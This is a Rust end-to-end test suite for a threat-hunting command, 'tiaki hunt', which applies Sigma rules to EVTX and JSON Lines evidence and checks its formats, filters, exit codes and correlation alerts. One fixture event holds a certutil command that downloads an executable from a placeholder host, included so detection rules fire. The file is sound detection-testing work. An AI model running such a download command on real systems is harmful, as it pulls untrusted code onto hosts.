//! `tiaki hunt` end to end: the real binary on real evidence and rules.

mod common;

use chrono::DateTime;
use common::*;
use serde_json::Value;

fn execution_hunt(extra: &[&str]) -> std::process::Output {
    let mut args = vec![
        "hunt".to_string(),
        samples("Execution").display().to_string(),
        "--rules".into(),
        sigma("rules/windows/process_creation")
            .display()
            .to_string(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    tiaki(args)
}

#[test]
fn jsonl_detections_follow_the_contract() {
    let o = execution_hunt(&["--format", "jsonl"]);
    assert_code(&o, 0);
    let lines = jsonl(&o);
    assert!(lines.len() > 20, "{} detections", lines.len());
    for d in &lines {
        for key in [
            "rule_id",
            "rule_title",
            "level",
            "timestamp",
            "host",
            "attack",
            "source",
            "event",
        ] {
            assert!(d.get(key).is_some(), "{key} missing in {d}");
        }
        let ts = d["timestamp"].as_str().unwrap();
        assert!(ts.ends_with('Z'), "{ts}");
        DateTime::parse_from_rfc3339(ts).unwrap();
        assert!(d["source"]["path"].as_str().unwrap().ends_with(".evtx"));
        assert!(d["source"]["record_id"].as_u64().is_some());
        assert!(d["event"]["Computer"].is_string());
        assert_eq!(d["host"], d["event"]["Computer"]);
        for t in d["attack"].as_array().unwrap() {
            let t = t.as_str().unwrap();
            assert!(
                t.starts_with('T') && t[1..5].chars().all(|c| c.is_ascii_digit()),
                "{t}"
            );
        }
    }
    assert!(
        lines
            .iter()
            .any(|d| !d["attack"].as_array().unwrap().is_empty()),
        "no detection has ATT&CK ids"
    );
    // The summary goes to stderr.
    let err = stderr(&o);
    assert!(err.contains("evtx"), "{err}");
    assert!(
        err.contains(&format!("detections: {}", lines.len())),
        "{err}"
    );
    assert!(err.contains("rules that fired most"), "{err}");
}

#[test]
fn csv_table_and_json_formats() {
    let csv_out = execution_hunt(&["--format", "csv"]);
    assert_code(&csv_out, 0);
    let mut r = csv::Reader::from_reader(csv_out.stdout.as_slice());
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        [
            "timestamp",
            "level",
            "rule_title",
            "rule_id",
            "host",
            "attack",
            "source_path",
            "record_id",
            "line",
            "kind",
            "rule_path",
            "event"
        ]
    );
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert!(rows.len() > 20);
    for row in &rows {
        serde_json::from_str::<Value>(&row[11]).unwrap();
    }

    let json_out = execution_hunt(&["--format", "json"]);
    assert_code(&json_out, 0);
    let doc: Value = serde_json::from_slice(&json_out.stdout).unwrap();
    let dets = doc["detections"].as_array().unwrap();
    assert_eq!(dets.len(), rows.len());
    let summary = &doc["summary"];
    assert_eq!(summary["detections"].as_u64().unwrap() as usize, dets.len());
    assert!(summary["events_by_format"]["evtx"].as_u64().unwrap() > 0);
    assert!(summary["detection_rules"].as_u64().unwrap() > 1000);
    assert!(!summary["top_rules"].as_array().unwrap().is_empty());
    // With --format json the summary is in the document, not on stderr.
    assert!(!stderr(&json_out).contains("rules that fired most"));

    let table = execution_hunt(&["--format", "table"]);
    assert_code(&table, 0);
    let text = stdout(&table);
    let mut lines = text.lines();
    let head = lines.next().unwrap();
    assert!(
        head.starts_with("TIME (UTC)") && head.contains("RULE"),
        "{head}"
    );
    let col = head.find("LEVEL").unwrap();
    for l in lines {
        // Aligned: the level column starts at the same character everywhere.
        let level: String = l.chars().skip(col).take(8).collect();
        assert!(
            ["critical", "high", "medium", "low", "informat", "-"]
                .iter()
                .any(|x| level.trim_end().starts_with(x)),
            "{l}"
        );
        assert!(l.chars().count() < 200, "not truncated: {l}");
    }
}

#[test]
fn min_level_keeps_only_higher_levels() {
    let all = jsonl(&execution_hunt(&["--format", "jsonl"]));
    let o = execution_hunt(&["--format", "jsonl", "--min-level", "high"]);
    assert_code(&o, 0);
    let high = jsonl(&o);
    assert!(!high.is_empty());
    assert!(high.len() < all.len());
    for d in &high {
        assert!(
            ["high", "critical"].contains(&d["level"].as_str().unwrap()),
            "{d}"
        );
    }
    let expected = all
        .iter()
        .filter(|d| ["high", "critical"].contains(&d["level"].as_str().unwrap()))
        .count();
    assert_eq!(high.len(), expected);
    assert!(stderr(&o).contains("below --min-level"));
}

#[test]
fn time_window_filters_events() {
    let all = jsonl(&execution_hunt(&["--format", "jsonl"]));
    let mut times: Vec<String> = all
        .iter()
        .map(|d| d["timestamp"].as_str().unwrap().to_string())
        .collect();
    times.sort();
    let (from, to) = (&times[times.len() / 4], &times[times.len() * 3 / 4]);
    let o = execution_hunt(&["--format", "jsonl", "--from", from, "--to", to]);
    assert_code(&o, 0);
    let window = jsonl(&o);
    let in_window = times.iter().filter(|t| *t >= from && *t <= to).count();
    assert_eq!(window.len(), in_window);
    let err = stderr(&o);
    assert!(err.contains("outside"), "{err}");

    // A bare date covers that whole day (UTC).
    let day = &from[..10];
    let o = execution_hunt(&["--format", "jsonl", "--from", day, "--to", day]);
    assert_code(&o, 0);
    for d in jsonl(&o) {
        assert!(d["timestamp"].as_str().unwrap().starts_with(day));
    }
    // A bad time is a usage error.
    assert_code(&execution_hunt(&["--from", "yesterday"]), 2);
}

#[test]
fn fail_on_sets_exit_code_1() {
    let o = execution_hunt(&["--format", "jsonl", "--fail-on", "high"]);
    assert_code(&o, 1);
    // Lateral Movement has no critical process-creation detections... check
    // the exit code against the output itself instead of assuming.
    let o = execution_hunt(&["--format", "jsonl", "--fail-on", "critical"]);
    let critical = jsonl(&o)
        .iter()
        .filter(|d| d["level"] == "critical")
        .count();
    assert_code(&o, if critical > 0 { 1 } else { 0 });
    // No detections at all: exit 0 even with --fail-on informational.
    let dir = tempfile::tempdir().unwrap();
    let rule = write(
        dir.path(),
        "never.yml",
        "title: never\nlevel: critical\nlogsource: {product: windows}\ndetection:\n  s: {EventID: 999999}\n  condition: s\n",
    );
    let o = tiaki([
        "hunt".as_ref(),
        samples("Execution").as_os_str(),
        "--rules".as_ref(),
        rule.as_os_str(),
        "--fail-on".as_ref(),
        "informational".as_ref(),
    ]);
    assert_code(&o, 0);
    assert!(stdout(&o).contains("no detections"));
}

#[test]
fn usage_errors_exit_2() {
    // No rules and no TIAKI_RULES: a clear error.
    let o = tiaki(["hunt".as_ref(), samples("Execution").as_os_str()]);
    assert_code(&o, 2);
    assert!(stderr(&o).contains("--rules"), "{}", stderr(&o));
    // A missing evidence path names the path.
    let o = tiaki([
        "hunt",
        "/nonexistent/evidence.evtx",
        "--rules",
        sigma("rules/windows/process_creation").to_str().unwrap(),
    ]);
    assert_code(&o, 2);
    assert!(stderr(&o).contains("/nonexistent/evidence.evtx"));
    // An unknown level or format.
    assert_code(&execution_hunt(&["--min-level", "severe"]), 2);
    assert_code(&execution_hunt(&["--input-format", "pcap"]), 2);
    // Nothing readable at all.
    let dir = tempfile::tempdir().unwrap();
    let junk = write(dir.path(), "junk.bin", "\u{1}\u{2}\u{3} not evidence");
    let o = tiaki([
        "hunt",
        junk.to_str().unwrap(),
        "--rules",
        sigma("rules/windows/process_creation").to_str().unwrap(),
    ]);
    assert_code(&o, 2);
    assert!(stderr(&o).contains("junk.bin"), "{}", stderr(&o));
}

#[test]
fn default_rules_from_environment() {
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_tiaki"))
        .args(["hunt", "--format", "jsonl"])
        .arg(samples("Execution"))
        .env("TIAKI_RULES", sigma("rules/windows/process_creation"))
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert!(!jsonl(&o).is_empty());
}

#[test]
fn damaged_evidence_is_hunted_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    // An EVTX file cut in the middle of a chunk.
    let src = std::fs::read(samples("Execution/Sysmon_Exec_CompiledHTML.evtx")).unwrap();
    assert!(src.len() > 4096 + 65536 / 2);
    std::fs::write(dir.path().join("cut.evtx"), &src[..4096 + 40_000]).unwrap();
    // An EVTX file with a chunk overwritten by garbage.
    let mut bad = std::fs::read(samples(
        "Execution/exec_sysmon_1_11_lolbin_rundll32_openurl_FileProtocolHandler.evtx",
    ))
    .unwrap();
    let end = bad.len().min(4096 + 2000);
    for b in &mut bad[4096 + 512..end] {
        *b = 0xA5;
    }
    std::fs::write(dir.path().join("scribbled.evtx"), &bad).unwrap();
    // JSON Lines with broken lines between good ones.
    let good = r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"ws1","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://x/a.exe a.exe","TimeCreated_SystemTime":"2024-05-01T10:00:00Z"}"#;
    write(
        dir.path(),
        "events.jsonl",
        &format!("{good}\n{{\"broken\": \n{good}\nnot json at all\n"),
    );
    // Random bytes.
    write(dir.path(), "noise.dat", "\u{7f}ELF garbage");

    let o = tiaki([
        "hunt".as_ref(),
        dir.path().as_os_str(),
        "--rules".as_ref(),
        sigma("rules/windows/process_creation").as_os_str(),
        "--format".as_ref(),
        "json".as_ref(),
    ]);
    assert_code(&o, 0);
    let err = stderr(&o);
    assert!(!err.contains("panic"), "{err}");
    let doc: Value = serde_json::from_slice(&o.stdout).unwrap();
    let summary = &doc["summary"];
    let problems = summary["files_with_problems"].as_array().unwrap();
    let named = |n: &str| {
        problems
            .iter()
            .find(|p| p["path"].as_str().unwrap().ends_with(n))
    };
    assert!(named("events.jsonl").is_some(), "{summary:#}");
    assert!(named("noise.dat").is_some(), "{summary:#}");
    assert!(named("cut.evtx").is_some(), "{summary:#}");
    assert!(
        summary["records_skipped"].as_object().unwrap().len() >= 2,
        "{summary:#}"
    );
    // The good JSON lines were hunted: certutil download detections.
    let dets = doc["detections"].as_array().unwrap();
    assert!(
        dets.iter().any(|d| d["source"]["path"]
            .as_str()
            .unwrap()
            .ends_with("events.jsonl")
            && d["source"]["line"].as_u64() == Some(3)),
        "{doc:#}"
    );
    // The damaged EVTX files still gave events.
    assert!(summary["events_by_format"]["evtx"].as_u64().unwrap() > 0);
}

#[test]
fn correlation_alerts_are_detections() {
    let dir = tempfile::tempdir().unwrap();
    let rules = write(dir.path(), "spray.yml", SPRAY_RULES);
    let evidence = samples("Credential Access/kerberos_pwd_spray_4771.evtx");
    let run = |extra: &[&str]| {
        let mut args = vec![
            "hunt".to_string(),
            evidence.display().to_string(),
            "--rules".into(),
            rules.display().to_string(),
            "--format".into(),
            "jsonl".into(),
        ];
        args.extend(extra.iter().map(|s| s.to_string()));
        tiaki(args)
    };
    let o = run(&[]);
    assert_code(&o, 0);
    let dets = jsonl(&o);
    // The referenced rule is only an input (generate: false): one alert.
    assert_eq!(dets.len(), 1, "{dets:#?}");
    let a = &dets[0];
    assert_eq!(a["kind"], "correlation");
    assert_eq!(
        a["rule_title"],
        "Kerberos password spraying from one address"
    );
    assert_eq!(a["level"], "high");
    assert_eq!(a["attack"], serde_json::json!(["T1110.003"]));
    let c = &a["correlation"];
    assert_eq!(c["type"], "event_count");
    assert_eq!(c["group"]["IpAddress"], "172.16.66.1");
    assert_eq!(c["timespan"], "5m");
    assert_eq!(c["value"], 5.0);
    let sources = c["sources"].as_array().unwrap();
    assert_eq!(sources.len(), 5);
    assert!(sources.iter().all(|s| s["record_id"].is_u64()));
    assert_eq!(a["source"], *sources.last().unwrap());
    assert_eq!(a["host"], "01566s-win16-ir.threebeesco.com");
    DateTime::parse_from_rfc3339(a["timestamp"].as_str().unwrap()).unwrap();
    assert!(
        stderr(&o).contains("only feed correlations"),
        "{}",
        stderr(&o)
    );

    // --all-matches lists the inputs too.
    let all = jsonl(&run(&["--all-matches"]));
    assert!(all.len() > 5);
    assert_eq!(all.iter().filter(|d| d["kind"] == "correlation").count(), 1);
    assert!(
        all.iter()
            .filter(|d| d["kind"] == "detection")
            .all(|d| d["event"]["EventID"] == 4768)
    );
}

/// `--sort` makes the output independent of how the parallel reader interleaved files: the
/// same bytes on every run, in the promised order, and the same detections as a streamed run.
#[test]
fn sorted_output_is_reproducible_and_complete() {
    let lines = |o: &std::process::Output| -> Vec<Value> {
        assert_eq!(o.status.code(), Some(0), "{}", stderr(o));
        stdout(o)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let streamed = lines(&execution_hunt(&["--format", "jsonl"]));
    assert!(streamed.len() > 20, "too few detections to test ordering");

    let by_time = execution_hunt(&["--format", "jsonl", "--sort", "time"]);
    let again = execution_hunt(&["--format", "jsonl", "--sort", "time"]);
    assert_eq!(stdout(&by_time), stdout(&again), "two sorted runs differ");
    let by_time = lines(&by_time);

    // Same detections, only reordered.
    let key = |v: &Value| serde_json::to_string(v).unwrap();
    let mut a: Vec<String> = streamed.iter().map(key).collect();
    let mut b: Vec<String> = by_time.iter().map(key).collect();
    a.sort();
    b.sort();
    assert_eq!(a, b, "sorting lost or changed detections");

    // Non-decreasing time; untimed detections (if any) last.
    let times: Vec<Option<DateTime<chrono::FixedOffset>>> = by_time
        .iter()
        .map(|v| {
            v["timestamp"]
                .as_str()
                .map(|t| DateTime::parse_from_rfc3339(t).unwrap())
        })
        .collect();
    for w in times.windows(2) {
        match (w[0], w[1]) {
            (Some(x), Some(y)) => assert!(x <= y, "{x} listed before {y}"),
            (None, Some(_)) => panic!("an untimed detection before a timed one"),
            _ => {}
        }
    }

    // By source: paths non-decreasing, record ids ascending within a file.
    let by_source = lines(&execution_hunt(&["--format", "jsonl", "--sort", "source"]));
    assert_eq!(by_source.len(), streamed.len());
    for w in by_source.windows(2) {
        let (p0, p1) = (
            w[0]["source"]["path"].as_str().unwrap(),
            w[1]["source"]["path"].as_str().unwrap(),
        );
        assert!(p0 <= p1, "{p0} listed before {p1}");
        if p0 == p1 {
            let r = |v: &Value| v["source"]["record_id"].as_u64().unwrap_or(0);
            assert!(r(&w[0]) <= r(&w[1]), "records out of order in {p0}");
        }
    }

    // The table and JSON writers take the sorted stream too.
    let json = execution_hunt(&["--format", "json", "--sort", "time"]);
    let doc: Value = serde_json::from_str(&stdout(&json)).unwrap();
    let dets = doc["detections"].as_array().unwrap();
    assert_eq!(dets.len(), streamed.len());
    assert_eq!(dets[0], by_time[0]);
}
